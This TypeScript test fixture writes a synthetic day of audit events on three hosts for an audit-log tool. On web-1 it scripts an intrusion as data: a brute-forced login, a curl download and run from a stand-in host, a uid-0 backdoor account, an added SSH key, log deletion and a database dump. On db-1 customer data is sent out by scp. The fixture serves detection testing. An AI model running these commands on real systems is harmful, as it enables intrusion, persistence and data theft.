/**
 * A day of three hosts, 2026-06-01: what people and programs did on it, and one who came in at night by a password that
 * was guessed. The cookbook of docs/sql.md asks about it.
 */
import type { AuditEvent } from "../../src/event/event.ts";
import type { ObjectStore } from "../../src/storage/object-store.ts";
import { commitMessages } from "./test-archive.ts";
import { createMessageMaker } from "./test-messages.ts";
import { at, beats, beginDay, close, exec, INTRUDER, login, upgrade } from "./audit-day-events.ts";

/** Who logged in to a session of web-1: it stays the same over sudo and su. */
const LOGINS: Readonly<Record<string, Partial<AuditEvent>>> = {
  41: { auid: 1001, auid_user: "deploy" },
  44: { auid: 1002, auid_user: "anna" },
};

function withLogin(host: string, event: AuditEvent): AuditEvent {
  const login = host === "web-1" ? LOGINS[event.session ?? ""] : undefined;
  return { ...event, ...login };
}

const HOSTS: Readonly<Record<string, () => AuditEvent[]>> = {
  "web-1": () => [
    ...beats(),
    ...["02:10:01", "02:10:04", "02:10:09", "02:10:15"].map((clock) =>
      login(clock, "deploy", INTRUDER, false)
    ),
    { ...login("02:10:21", "deploy", INTRUDER), session: "41" },
    exec("02:10:22", {
      line: "-bash",
      exe: "/usr/bin/bash",
      user: "deploy",
      uid: 1001,
      session: "41",
      id: "p-shell",
    }),
    exec("02:10:40", { line: "id", user: "deploy", uid: 1001, session: "41", parent: "p-shell" }),
    exec("02:11:02", {
      line: "curl -so /tmp/.x http://203.0.113.77/x",
      user: "deploy",
      uid: 1001,
      session: "41",
      parent: "p-shell",
      id: "p-curl",
    }),
    at("02:11:03", {
      topic: "network/connect",
      exe: "/usr/bin/curl",
      user: "deploy",
      dst_ip: INTRUDER,
      dst_port: 80,
      protocol: "tcp",
      session: "41",
      process_id: "p-curl",
    }),
    at("02:11:05", {
      topic: "file/create",
      exe: "/usr/bin/curl",
      user: "deploy",
      path: "/tmp/.x",
      session: "41",
    }),
    exec("02:11:20", {
      line: "/tmp/.x --bg",
      exe: "/tmp/.x",
      user: "deploy",
      uid: 1001,
      session: "41",
      parent: "p-shell",
      id: "p-x",
      detail: { deleted: true, sha256: "9f86d081884c7d65" },
    }),
    exec("02:11:31", {
      line: "sudo -s",
      user: "deploy",
      uid: 1001,
      session: "41",
      parent: "p-x",
      id: "p-sudo",
    }),
    at("02:11:31", {
      topic: "auth/sudo",
      user: "deploy",
      session: "41",
      severity: "high",
      detail: { source: "journal", tty: "pts/3", target: "root" },
    }),
    exec("02:11:40", {
      line: "useradd -o -u 0 backup2",
      exe: "/usr/sbin/useradd",
      session: "41",
      parent: "p-sudo",
    }),
    at("02:11:41", {
      topic: "account/user/add",
      severity: "high",
      user: "root",
      session: "41",
      detail: { target: "backup2", what: "uid", after: "0" },
    }),
    at("02:11:44", {
      topic: "file/change",
      severity: "high",
      user: "root",
      exe: "/usr/sbin/useradd",
      path: "/etc/passwd",
      session: "41",
      detail: { kind: "accounts", diff: "@@ -34,0 +35 @@\n+backup2:x:0:0::/home/backup2:/bin/sh" },
    }),
    at("02:12:10", {
      topic: "account/key/add",
      severity: "high",
      user: "root",
      session: "41",
      detail: { target: "deploy", what: "ssh-ed25519", after: "SHA256:q1Zx… evil" },
    }),
    at("02:12:30", {
      topic: "file/attribute",
      severity: "high",
      user: "root",
      exe: "/usr/bin/chmod",
      path: "/usr/local/bin/find",
      session: "41",
      detail: { changed: ["mode"], mode_before: "0755", mode: "4755" },
    }),
    at("02:12:41", {
      topic: "auth/su",
      user: "root",
      session: "41",
      severity: "high",
      outcome: "success",
      detail: { source: "journal", tty: "pts/4", target: "postgres" },
    }),
    exec("02:12:45", { line: "pg_dumpall", user: "postgres", uid: 109, session: "41" }),
    at("02:13:00", {
      topic: "file/delete",
      user: "root",
      exe: "/usr/bin/rm",
      path: "/var/log/auth.log",
      session: "41",
      detail: {},
    }),
    at("02:13:05", {
      topic: "agent/gap",
      severity: "high",
      detail: {
        class: "file",
        count: 212,
        reason: "the ring was full",
        from: "2026-06-01T02:13:01Z",
        to: "2026-06-01T02:13:05Z",
      },
    }),
    close("02:14:00", "/tmp/.x", [INTRUDER, 4444], 48_211_904),
    login("08:55:12", "anna", "10.0.8.14"),
    exec("08:56:00", { line: "vim /etc/nginx/nginx.conf", user: "anna", uid: 1002, session: "44" }),
    at("08:57:10", {
      topic: "auth/sudo",
      user: "anna",
      session: "44",
      detail: { source: "journal", tty: "pts/0", target: "root" },
    }),
    at("08:57:31", {
      topic: "file/change",
      user: "root",
      exe: "/usr/bin/vim",
      path: "/etc/nginx/nginx.conf",
      session: "44",
      detail: {
        kind: "content-diff",
        diff: "@@ -12 +12 @@\n-  worker_connections 512;\n+  worker_connections 2048;",
      },
    }),
    at("08:58:02", {
      topic: "service/stop",
      unit: "nginx.service",
      user: "root",
      detail: { state: "inactive", old_state: "active" },
    }),
    at("08:58:03", {
      topic: "service/start",
      unit: "nginx.service",
      user: "root",
      detail: { state: "active", old_state: "inactive" },
    }),
    at("08:58:03", {
      topic: "network/listen",
      exe: "/usr/sbin/nginx",
      user: "www-data",
      src_ip: "0.0.0.0",
      src_port: 443,
      protocol: "tcp",
    }),
    exec("11:20:07", {
      line: "sh -c id",
      exe: "/bin/sh",
      user: "www-data",
      uid: 33,
      detail: { ancestors: [{ pid: 80, exe: "/usr/sbin/nginx" }] },
    }),
    upgrade("06:25:10", ["openssl", "3.0.15-1", "3.0.16-1"]),
    upgrade("06:25:12", ["nginx", "1.22.1-9", "1.22.1-9+deb12u2"]),
    ...["10:00:00", "13:00:00"].map((clock) =>
      close(clock, "/usr/sbin/nginx", ["10.0.9.5", 5432], 81_220)
    ),
  ],
  "web-2": () => [
    ...beats(),
    login("09:12:44", "anna", "10.0.8.14"),
    exec("09:13:00", { line: "apt-get install -y htop", user: "root", session: "12" }),
    upgrade("09:13:20", ["htop", "", "3.2.2-2"]),
    upgrade("06:25:10", ["openssl", "3.0.15-1", "3.0.16-1"]),
    close("09:13:22", "/usr/lib/apt/methods/https", ["151.101.86.132", 443], 3_120),
    at("14:02:11", {
      topic: "service/stop",
      severity: "high",
      unit: "app.service",
      user: "root",
      detail: { state: "failed", old_state: "active" },
    }),
    at("14:02:12", {
      topic: "process/exit",
      exe: "/srv/app/server",
      user: "app",
      process_id: "p-app",
      detail: { signal: 11, core: true, duration_ms: 51_200_000 },
    }),
    at("15:40:00", {
      topic: "file/rename",
      user: "app",
      exe: "/srv/app/deploy",
      path: "/srv/app/current",
      old_path: "/srv/app/next",
      detail: {},
    }),
    ...["10:30:00", "16:30:00"].map((clock) =>
      close(clock, "/srv/app/server", ["10.0.9.5", 5432], 220_400)
    ),
  ],
  "db-1": () => [
    ...beats().filter((_, each) => each < 8 || each > 9),
    upgrade("06:25:10", ["openssl", "3.0.15-1", "3.0.15-2"]),
    login("10:41:09", "otto", "10.0.8.20"),
    ...["12:00:01", "12:00:02"].map((clock) => login(clock, "otto", "10.0.8.20", false)),
    exec("10:42:00", {
      line: "psql -c \\copy customers to /tmp/c.csv",
      user: "otto",
      uid: 1003,
      session: "7",
    }),
    at("10:42:09", {
      topic: "file/create",
      user: "otto",
      exe: "/usr/bin/psql",
      path: "/tmp/c.csv",
      session: "7",
    }),
    exec("10:43:30", {
      line: "scp /tmp/c.csv 198.51.100.9:",
      user: "otto",
      uid: 1003,
      session: "7",
    }),
    close("10:43:55", "/usr/bin/ssh", ["198.51.100.9", 22], 9_733_120),
    at("10:44:10", {
      topic: "file/delete",
      user: "otto",
      exe: "/usr/bin/rm",
      path: "/tmp/c.csv",
      session: "7",
      detail: {},
    }),
    at("18:05:00", {
      topic: "account/user/remove",
      severity: "high",
      user: "root",
      detail: { target: "trainee", what: "uid", before: "1010" },
    }),
    at("19:30:00", {
      topic: "kernel/module",
      user: "root",
      exe: "/usr/bin/kmod",
      detail: { name: "wireguard", how: "load" },
    }),
    at("20:00:00", {
      topic: "audit/query",
      user: "anna",
      detail: { principal: "anna", route: "POST /v1/sql", rows: 48, remote: "10.0.8.14" },
    }),
    at("20:04:00", {
      topic: "agent/gap",
      severity: "high",
      detail: {
        class: "silence",
        reason: "the host was unreachable",
        from: "2026-06-01T16:00:00Z",
        to: "2026-06-01T20:00:00Z",
      },
    }),
  ],
};

/** Commits the day to a bucket. */
export async function writeAuditDay(store: ObjectStore, folder: string): Promise<void> {
  beginDay();
  let sequence = 0;
  const messages = [];
  for (const [host, eventsOf] of Object.entries(HOSTS)) {
    const maker = createMessageMaker({ agent: host, host, firstSequence: ++sequence });
    const events = eventsOf().map((event) => withLogin(host, event)).toSorted((one, other) =>
      one.timeUs - other.timeUs
    );
    messages.push(
      await maker.next(events.map((event, idx) => ({ ...event, timeUs: event.timeUs + idx }))),
    );
  }
  await commitMessages({ store, incarnation: "0a1b2c3d", messages, folder });
}
